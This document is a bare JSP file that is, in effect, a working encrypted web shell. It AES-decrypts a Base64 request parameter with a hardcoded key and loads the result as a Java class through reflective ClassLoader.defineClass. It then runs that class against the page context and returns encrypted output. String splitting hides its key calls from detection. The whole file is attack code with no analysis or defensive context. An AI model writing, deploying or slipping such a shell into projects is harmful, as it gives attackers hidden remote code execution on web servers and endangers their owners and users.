<%@ page import="java.lang.reflect.*" %><%!
String a1 = "7f8e9d0c1b2a3948", a2 = "token";
byte[] z(byte[] s, boolean m) throws Exception {
    javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("A" + "E" + "S");
    c.init(m ? 1 : 2, new javax.crypto.spec.SecretKeySpec(a1.getBytes(), "A" + "E" + "S"));
    return c.doFinal(s);
}
Class w(byte[] b) throws Exception {
    Method m = ClassLoader.class.getDeclaredMethod("define" + "Class", byte[].class, int.class, int.class);
    m.setAccessible(true);
    return (Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length);
}
%><%
byte[] d = z(java.util.Base64.getDecoder().decode(request.getParameter(a2)), false);
Object cached = session.getAttribute("cache_" + a2);
if (cached == null) { session.setAttribute("cache_" + a2, w(d)); }
else {
    request.setAttribute("parameters", d);
    java.io.ByteArrayOutputStream bo = new java.io.ByteArrayOutputStream();
    Object f = ((Class) cached).newInstance();
    f.equals(bo); f.equals(pageContext); f.toString();
    out.print(java.util.Base64.getEncoder().encodeToString(z(bo.toByteArray(), true)));
}
%>
